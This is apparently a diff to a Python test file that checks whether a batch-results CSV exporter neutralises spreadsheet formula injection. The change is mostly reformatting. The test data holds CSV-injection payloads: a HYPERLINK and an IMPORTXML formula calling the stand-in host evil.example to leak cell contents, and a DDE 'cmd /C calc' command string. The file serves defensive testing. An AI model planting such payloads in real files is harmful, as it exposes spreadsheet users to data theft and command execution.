@@ -16,8 +16,13 @@ from pixdesk.services.batch import RESULT_FIELDS, results_text
 from pixdesk.store.batch import BatchItem, BatchJob
 
 FORMULA_STARTS = "=+-@\t\r"
-PAYLOADS = ('HYPERLINK("http://evil.example/?leak="&A1,"Click")', "1+cmd|' /C calc'!A0", "SUM(1,2)",
-            "2+3", "@IMPORTXML(\"http://evil.example\",\"//a\")")
+PAYLOADS = (
+    'HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "1+cmd|' /C calc'!A0",
+    "SUM(1,2)",
+    "2+3",
+    '@IMPORTXML("http://evil.example","//a")',
+)
 
 
 def _hostile_texts(starts: str, count: int) -> list[str]:
@@ -31,17 +36,34 @@ def _hostile_texts(starts: str, count: int) -> list[str]:
 
 
 def _job() -> BatchJob:
-    return BatchJob(7, "=cmd|' /C calc'!A0", "2024-05-01T10:00:00+00:00", "eu-west-1", "default", 1024, "", None,
-                    {"done": 1})
+    return BatchJob(
+        7, "=cmd|' /C calc'!A0", "2024-05-01T10:00:00+00:00", "eu-west-1", "default", 1024, "", None, {"done": 1}
+    )
 
 
 def _items(texts: list[str]) -> list[BatchItem]:
     items = []
     for position, text in enumerate(texts):
-        items.append(BatchItem(
-            position + 1, 7, position, path=f"{text}.png", page=0, prompt=text, status="done", answer=text,
-            audit={"input_tokens": 10, "output_tokens": 5, "request_id": text, "profile_id": text,
-                   "error_message": text, "started_at": "2024-05-01T10:00:00+00:00"}))
+        items.append(
+            BatchItem(
+                position + 1,
+                7,
+                position,
+                path=f"{text}.png",
+                page=0,
+                prompt=text,
+                status="done",
+                answer=text,
+                audit={
+                    "input_tokens": 10,
+                    "output_tokens": 5,
+                    "request_id": text,
+                    "profile_id": text,
+                    "error_message": text,
+                    "started_at": "2024-05-01T10:00:00+00:00",
+                },
+            )
+        )
     return items
 
 
@@ -50,7 +72,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(start):
     texts = _hostile_texts(start, 4)
     rows = list(csv.DictReader(io.StringIO(results_text(_job(), _items(texts), "csv"))))
     assert len(rows) == len(texts)
-    for row, text in zip(rows, texts):
+    for row, text in zip(rows, texts, strict=False):
         for field in ("file", "prompt", "answer", "request_id", "profile_id", "error"):
             cell = row[field]
             assert not cell.startswith(tuple(FORMULA_STARTS)), (field, cell)
